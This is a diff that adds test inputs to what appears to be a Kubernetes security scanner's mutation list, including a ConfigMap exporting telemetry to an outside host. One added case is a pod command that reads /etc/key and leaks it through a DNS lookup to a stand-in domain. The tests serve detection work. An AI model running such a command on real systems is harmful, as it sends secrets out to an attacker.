@@ -409,6 +409,20 @@ MUTATIONS = (
         ),
     ),
     opens(
+        "settings of a program that name a host outside without a scheme",
+        "CN-217",
+        an_object(
+            "kubernetes:core/v1:ConfigMap",
+            metadata={"name": "app"},
+            data={"otel.yaml": "exporters: {otlp: {endpoint: 'x.example.com:4317'}}\n"},
+        ),
+    ),
+    opens(
+        "a pod that puts what it knows into a name",
+        "CN-200",
+        told(command=["sh", "-c", "nslookup $(cat /etc/key).x.example"]),
+    ),
+    opens(
         "a Secret that names a host outside",
         "CN-217",
         an_object("kubernetes:core/v1:Secret", data={"url": HIDDEN}),
